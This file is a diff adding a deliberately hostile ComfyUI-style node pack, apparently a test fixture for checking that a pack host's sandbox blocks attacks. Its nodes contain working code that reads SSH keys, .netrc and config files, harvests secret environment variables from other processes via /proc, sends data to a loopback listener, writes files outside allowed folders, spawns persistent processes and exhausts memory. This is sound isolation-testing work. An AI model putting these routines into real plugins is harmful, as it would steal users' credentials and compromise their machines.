@@ -1,0 +1,199 @@
+"""A hostile ComfyUI-format pack: each node tries one attack and returns what it achieved, beside one honest node.
+
+The tests copy this folder into a custom_nodes folder as ``hostile-pack`` and run its nodes through ``comfy run``
+and ``comfy serve``. Every attack node is an output node that returns a JSON report (as its STRING output and as
+UI text) and also writes it to the output folder as ``attack-<kind>-<tag>.json``, the one place a pack may write:
+the test reads whichever it can reach. An attack node never hides what it got: a report of a successful attack
+holds the stolen text itself, so a test fails on the secret, not on a flag the pack chose to set.
+
+Nothing here is subtle on purpose: the point is that the pack host stops plain attempts that run as the user's own
+process would let them (and, with ``--isolation off``, the same nodes do succeed -- which the tests also check).
+"""
+
+from __future__ import annotations
+
+import json
+import mmap
+import os
+import shutil
+import socket
+import subprocess
+from pathlib import Path
+
+import folder_paths
+
+GIB = 1 << 30
+SECRET_WORDS = ("TOKEN", "SECRET", "KEY", "PASSWORD", "CREDENTIAL")
+
+
+def _report(kind: str, tag: str, data: dict) -> dict:
+    text = json.dumps({"kind": kind, "tag": tag, **data}, sort_keys=True)
+    out = Path(folder_paths.get_output_directory())
+    out.mkdir(parents=True, exist_ok=True)
+    (out / f"attack-{kind}-{tag}.json").write_text(text)
+    return {"ui": {"text": [text]}, "result": (text,)}
+
+
+def _read(path: str) -> str:
+    with open(path, encoding="utf-8", errors="replace") as f:
+        return f.read(4096)
+
+
+class _Attack:
+    CATEGORY = "hostile"
+    RETURN_TYPES = ("STRING",)
+    FUNCTION = "run"
+    OUTPUT_NODE = True
+
+
+class HostileReadHome(_Attack):
+    """Read the user's private key and other files of their home folder (the real one, whose path it is given:
+    an attacker knows where homes live), and list what the home folder holds."""
+
+    @classmethod
+    def INPUT_TYPES(cls):
+        return {"required": {"home": ("STRING", {"default": ""}), "tag": ("STRING", {"default": "t"})}}
+
+    def run(self, home, tag):
+        import pwd
+
+        candidates = []
+        for base in (home, os.path.expanduser("~"), os.environ.get("HOME", ""), pwd.getpwuid(os.getuid()).pw_dir):
+            if base:
+                for rel in (".ssh/id_test", ".config/hearth/config.toml", ".netrc"):
+                    candidates.append(os.path.join(base, rel))
+        read, errors, listing = {}, {}, {}
+        for path in dict.fromkeys(candidates):
+            try:
+                read[path] = _read(path)
+            except OSError as exc:
+                errors[path] = f"{type(exc).__name__}: {exc}"
+        for base in dict.fromkeys(b for b in (home, os.path.join(home, ".ssh")) if b):
+            try:
+                listing[base] = sorted(os.listdir(base))
+            except OSError as exc:
+                listing[base] = f"{type(exc).__name__}: {exc}"
+        return _report("home", tag, {"read": read, "errors": errors, "listing": listing})
+
+
+class HostileEnvSecrets(_Attack):
+    """Read the process environment, and the environments of the processes it can see (its parent, PID 1)."""
+
+    @classmethod
+    def INPUT_TYPES(cls):
+        return {"required": {"tag": ("STRING", {"default": "t"})}}
+
+    def run(self, tag):
+        others = {}
+        for pid in dict.fromkeys((os.getppid(), 1)):
+            try:
+                with open(f"/proc/{pid}/environ", "rb") as f:
+                    pairs = [p.decode(errors="replace") for p in f.read().split(b"\0") if p]
+                others[str(pid)] = [p for p in pairs if any(w in p.split("=", 1)[0].upper() for w in SECRET_WORDS)]
+            except OSError as exc:
+                others[str(pid)] = f"{type(exc).__name__}: {exc}"
+        return _report("env", tag, {"environ": dict(os.environ), "other_processes": others})
+
+
+class HostileNetwork(_Attack):
+    """Send what it would steal to a listener on the machine's loopback interface."""
+
+    @classmethod
+    def INPUT_TYPES(cls):
+        return {"required": {"port": ("INT", {"default": 1, "min": 1, "max": 65535}),
+                             "payload": ("STRING", {"default": ""}), "tag": ("STRING", {"default": "t"})}}
+
+    def run(self, port, payload, tag):
+        attempts = {}
+        for host in ("127.0.0.1", "localhost"):
+            try:
+                with socket.create_connection((host, port), timeout=3) as conn:
+                    conn.sendall(payload.encode())
+                attempts[host] = "sent"
+            except OSError as exc:
+                attempts[host] = f"{type(exc).__name__}: {exc}"
+        return _report("network", tag, {"attempts": attempts, "connected": "sent" in attempts.values()})
+
+
+class HostileWrite(_Attack):
+    """Drop a file in each folder it is given (home, /tmp, its own folder, input, models), and one in the output
+    folder, where a pack may write."""
+
+    @classmethod
+    def INPUT_TYPES(cls):
+        return {"required": {"targets": ("STRING", {"default": "[]"}), "marker": ("STRING", {"default": "m"}),
+                             "tag": ("STRING", {"default": "t"})}}
+
+    def run(self, targets, marker, tag):
+        results = {}
+        for folder in json.loads(targets) + [os.path.dirname(os.path.abspath(__file__))]:
+            path = os.path.join(folder, f"pwned-{marker}.txt")
+            try:
+                with open(path, "w") as f:
+                    f.write("pwned")
+                results[folder] = "wrote"
+            except OSError as exc:
+                results[folder] = f"{type(exc).__name__}: {exc}"
+        output = Path(folder_paths.get_output_directory()) / f"allowed-{marker}.txt"
+        output.write_text("written by hostile-pack")
+        return _report("write", tag, {"results": results, "output_file": str(output)})
+
+
+class HostileSpawn(_Attack):
+    """Start a ``sleep`` in a session of its own (argv[0] is ``marker``, so the test can find it) and return
+    at once: the process outlives the node."""
+
+    @classmethod
+    def INPUT_TYPES(cls):
+        return {"required": {"marker": ("STRING", {"default": "m"}), "tag": ("STRING", {"default": "t"})}}
+
+    def run(self, marker, tag):
+        sleep = shutil.which("sleep") or "/bin/sleep"
+        child = subprocess.Popen([marker, "300"], executable=sleep, start_new_session=True,
+                                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        return _report("spawn", tag, {"pid": child.pid})
+
+
+class HostileMemory(_Attack):
+    """Reserve ``gib`` GiB of address space (far past any host's limit), then touch up to ``touch_mib`` MiB of
+    it. Where no limit stops the reservation the node returns what it got (so the test fails, and the touching is
+    capped so that a missing limit cannot take this machine down with it)."""
+
+    @classmethod
+    def INPUT_TYPES(cls):
+        return {"required": {"gib": ("INT", {"default": 64, "min": 1, "max": 1 << 20}),
+                             "touch_mib": ("INT", {"default": 1024, "min": 1, "max": 1 << 20}),
+                             "tag": ("STRING", {"default": "t"})}}
+
+    def run(self, gib, touch_mib, tag):
+        # MAP_NORESERVE (Linux's 0x4000; the constant is in the mmap module from Python 3.12): without a limit the
+        # reservation succeeds, whatever the machine's RAM, so only a limit can stop it.
+        flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | getattr(mmap, "MAP_NORESERVE", 0x4000)
+        try:
+            block = mmap.mmap(-1, gib * GIB, flags=flags)
+        except OSError as exc:  # the host's memory limit refuses the address space
+            raise MemoryError(f"could not reserve {gib} GiB: {exc}") from exc
+        chunk = 64 << 20
+        touched = 0
+        while touched < touch_mib << 20:
+            block[touched:touched + chunk] = b"\x01" * chunk
+            touched += chunk
+        block.close()
+        return _report("memory", tag, {"reserved_gib": gib, "touched_mib": touched >> 20})
+
+
+class HostileHonest(_Attack):
+    """The pack's honest node: a pure function of its inputs."""
+
+    @classmethod
+    def INPUT_TYPES(cls):
+        return {"required": {"text": ("STRING", {"default": ""}), "times": ("INT", {"default": 1, "min": 0}),
+                             "tag": ("STRING", {"default": "t"})}}
+
+    def run(self, text, times, tag):
+        return _report("honest", tag, {"value": "-".join([text[::-1].upper()] * times)})
+
+
+NODE_CLASS_MAPPINGS = {cls.__name__: cls for cls in (HostileReadHome, HostileEnvSecrets, HostileNetwork,
+                                                       HostileWrite, HostileSpawn, HostileMemory, HostileHonest)}
+NODE_DISPLAY_NAME_MAPPINGS = {name: name.replace("Hostile", "Hostile ") for name in NODE_CLASS_MAPPINGS}
